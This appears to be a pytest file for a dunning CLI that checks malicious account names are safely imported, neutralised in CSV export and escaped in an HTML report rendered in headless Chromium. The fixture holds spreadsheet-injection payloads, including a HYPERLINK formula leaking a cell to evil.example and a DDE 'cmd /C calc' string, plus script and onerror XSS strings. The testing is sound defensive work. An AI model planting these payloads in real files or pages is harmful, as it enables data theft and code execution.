"""A malicious ledger through the command, and the HTML report in headless Chromium.

The malicious accounts file has a BOM, CRLF line ends, a CRLF inside a quoted name,
names a spreadsheet would run (``=HYPERLINK``, ``+cmd``, ``@SUM``, ``-1+1``, a leading
tab) and names a browser would run (``<script>``, an ``onerror`` attribute). It must
import; a file with invalid UTF-8 and a file with a 10 MB cell must be refused with
nothing written. The CSV export neutralises the formulas; the HTML report shows every
name as text, runs nothing, fetches nothing, and Chromium logs no error for it.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import sqlite3
import sys
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest

from dunning_core.adapters.storage.sqlite import SqliteStore
from dunning_core.service.portfolio import account_views, aging_by_currency

sys.path.insert(0, str(Path(__file__).resolve().parent))
import browser
from test_cli import LAST, dunning, import_sample

NAMES = {
    "M-01": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "M-02": "+cmd|' /C calc'!A0",
    "M-03": "@SUM(1+1)*cmd|' /C calc'!A0",
    "M-04": "-1+1",
    "M-05": "\tTabbed Ltd",
    "M-06": "<script>alert('x')</script> Evil SARL",
    "M-07": '"><img src=x onerror=alert(1)> Quotes & Co',
    "M-08": "Two\r\nLines GmbH",
}
#: What the store keeps: cells are stripped of surrounding white space on import.
STORED = {account_id: name.strip() for account_id, name in NAMES.items()}


def _malicious_files(folder: Path) -> dict[str, Path]:
    accounts = io.StringIO(newline="")
    writer = csv.writer(accounts, lineterminator="\r\n")
    writer.writerow(
        ["id", "name", "currency", "email", "address_line1", "postal_code", "city", "country"]
    )
    for account_id, name in NAMES.items():
        writer.writerow(
            [
                account_id,
                name,
                "EUR",
                f"ap@{account_id.lower()}.example",
                "1 rue X",
                "75001",
                "Paris",
                "FR",
            ]
        )
    files = {"accounts": folder / "evil-accounts.csv"}
    files["accounts"].write_bytes(codecs.BOM_UTF8 + accounts.getvalue().encode("utf-8"))
    invoices = ["number,account_id,issued_on,due_on,amount,currency"]
    invoices += [f"F-{i},{i},2026-02-01,2026-03-01,{100 + n}.00,EUR" for n, i in enumerate(NAMES)]
    files["invoices"] = folder / "evil-invoices.csv"
    files["invoices"].write_text("\r\n".join(invoices) + "\r\n", encoding="utf-8")
    files["utf8"] = folder / "latin1.csv"
    files["utf8"].write_bytes("id,name,currency\r\nX-1,Café Noël,EUR\r\n".encode("latin-1"))
    files["huge"] = folder / "huge.csv"
    files["huge"].write_text(
        "id,name,currency\nX-2,Fine,EUR\nX-3," + "A" * 10_000_000 + ",EUR\n", encoding="utf-8"
    )
    return files


@pytest.fixture(scope="module")
def evil_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Path]]:
    folder = tmp_path_factory.mktemp("evil")
    db = folder / "dunning.sqlite3"
    files = _malicious_files(folder)
    import_sample(db)
    dunning("import", "accounts", str(files["accounts"]), db=db)
    dunning("import", "invoices", str(files["invoices"]), db=db)
    dunning(
        "run",
        "--as-of",
        "2026-03-01",
        "--until",
        LAST.isoformat(),
        "--dispatch",
        "--progress",
        "none",
        db=db,
    )
    return db, files


class _Tags(HTMLParser):
    """The elements and attribute names of a page, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.attributes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)
        self.attributes.extend(name for name, _ in attrs)


def _dump(db: Path) -> list[str]:
    connection = sqlite3.connect(db)
    try:
        return list(connection.iterdump())
    finally:
        connection.close()


def test_malicious_names_import_as_written(evil_db: tuple[Path, dict[str, Path]]) -> None:
    db, _ = evil_db
    store = SqliteStore(db)
    with store.unit_of_work() as uow:
        stored = {i: uow.accounts.get(i) for i in NAMES}
    store.close()
    assert {i: a.name for i, a in stored.items() if a is not None} == STORED


def test_invalid_utf8_and_a_10_mb_cell_are_refused_with_nothing_written(
    evil_db: tuple[Path, dict[str, Path]], tmp_path: Path
) -> None:
    db, files = evil_db
    before = _dump(db)
    refused = dunning("import", "accounts", str(files["utf8"]), db=db, check=2)
    assert "line 2: not UTF-8: byte 0xe9" in refused.stderr
    assert "nothing written" in refused.stderr
    huge = dunning("import", "accounts", str(files["huge"]), db=db, check=2)
    assert "4096 are accepted" in huge.stdout and "nothing written" in huge.stdout
    assert len(huge.stdout) < 5_000  # the 10 MB value is not echoed
    assert _dump(db) == before


def test_the_csv_export_neutralises_every_formula(evil_db: tuple[Path, dict[str, Path]]) -> None:
    db, _ = evil_db
    exported = dunning("cases", "--as-of", LAST.isoformat(), "--format", "csv", db=db)
    rows = list(csv.DictReader(io.StringIO(exported.stdout, newline=""), dialect="excel"))
    customers = {row["account_id"]: row["customer"] for row in rows}
    for account_id, name in STORED.items():
        expected = f"'{name}" if name[0] in "=+-@\t\r" else name
        assert customers[account_id] == expected, account_id
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row.values()
    )


def test_the_html_report_escapes_every_customer_string(
    evil_db: tuple[Path, dict[str, Path]], tmp_path: Path
) -> None:
    db, _ = evil_db
    page = tmp_path / "report.html"
    dunning("report", "--html", str(page), "--as-of", LAST.isoformat(), db=db)
    text = page.read_text(encoding="utf-8")
    tags = _Tags()
    tags.feed(text)
    assert not tags.found & {"script", "img", "iframe", "object", "embed", "link", "a"}
    assert not [a for a in tags.attributes if a in ("src", "href") or a.startswith("on")]
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; Evil SARL" in text


@pytest.fixture(scope="module")
def report_page(evil_db: tuple[Path, dict[str, Path]], tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    assert browser.chromium_path(), "chromium is missing: `make browser` installs it"
    db, _ = evil_db
    page = tmp_path_factory.mktemp("report") / "report.html"
    dunning("report", "--html", str(page), "--as-of", LAST.isoformat(), db=db)
    with browser.Page(page.as_uri(), width=1280, height=1400) as opened:
        yield opened


def test_chromium_shows_the_report_without_a_console_error(report_page: browser.Page) -> None:
    assert report_page.console == []
    assert report_page.evaluate("document.scripts.length") == 0
    assert report_page.evaluate("document.querySelectorAll('img, iframe, object').length") == 0
    shown = report_page.evaluate(
        "[...document.querySelectorAll('#cases-table tbody tr td:nth-child(2)')]"
        ".map(td => td.textContent)"
    )
    assert {NAMES["M-06"], NAMES["M-07"]} <= set(shown)


def test_the_chart_is_drawn_inside_its_box(report_page: browser.Page) -> None:
    boxes = report_page.evaluate(
        "[...document.querySelectorAll('svg.aging-chart')].map(svg => {"
        " const r = svg.getBoundingClientRect();"
        " return {x: r.x + scrollX, y: r.y + scrollY, width: r.width, height: r.height}; })"
    )
    assert len(boxes) == 6  # CHF, EUR, GBP, JPY, USD, XPF
    for box in boxes:
        width, height, pixels = browser.decode_png(report_page.screenshot(box))
        assert (width, height) == (int(box["width"]), int(box["height"]))
        assert browser.ink(pixels) > 0.02, box
    blank = {"x": 0, "y": 0, "width": 12, "height": 12}  # the page's white margin
    assert browser.ink(browser.decode_png(report_page.screenshot(blank))[2]) == 0


def test_the_aging_table_shows_the_apis_aging(
    report_page: browser.Page, evil_db: tuple[Path, dict[str, Path]]
) -> None:
    db, _ = evil_db
    store = SqliteStore(db)
    expected = {
        currency: [str(buckets[b].amount) for b in ("current", "1-30", "31-60", "61-90", "over 90")]
        for currency, buckets in aging_by_currency(account_views(store.unit_of_work, LAST)).items()
    }
    store.close()
    shown = report_page.evaluate(
        "Object.fromEntries([...document.querySelectorAll('#aging-table tbody tr')].map(tr =>"
        " [tr.dataset.currency, [...tr.querySelectorAll('td')].slice(0, 5)"
        ".map(td => td.textContent)]))"
    )
    assert shown == expected
    assert json.dumps(shown)  # plain data came back from the page


def test_a_page_that_breaks_its_policy_is_caught(tmp_path: Path) -> None:
    """The console check can fail: an inline style and script the policy refuses."""
    page = tmp_path / "bad.html"
    page.write_text(
        "<!DOCTYPE html><html><head><meta http-equiv='Content-Security-Policy' "
        "content=\"default-src 'none'\"><style>p{color:red}</style></head>"
        "<body><p>x</p><script>1</script></body></html>",
        encoding="utf-8",
    )
    with browser.Page(page.as_uri()) as opened:
        assert len(opened.console) == 2
        assert all("Content Security Policy" in line for line in opened.console)


def test_report_day_is_the_as_of_day(evil_db: tuple[Path, dict[str, Path]], tmp_path: Path) -> None:
    db, _ = evil_db
    page = tmp_path / "r.html"
    dunning("report", "--html", str(page), "--as-of", "2026-04-01", "--days", "10", db=db)
    text = page.read_text(encoding="utf-8")
    assert f"As of {date(2026, 4, 1)}" in text and "(2026-03-23 to 2026-04-01)" in text
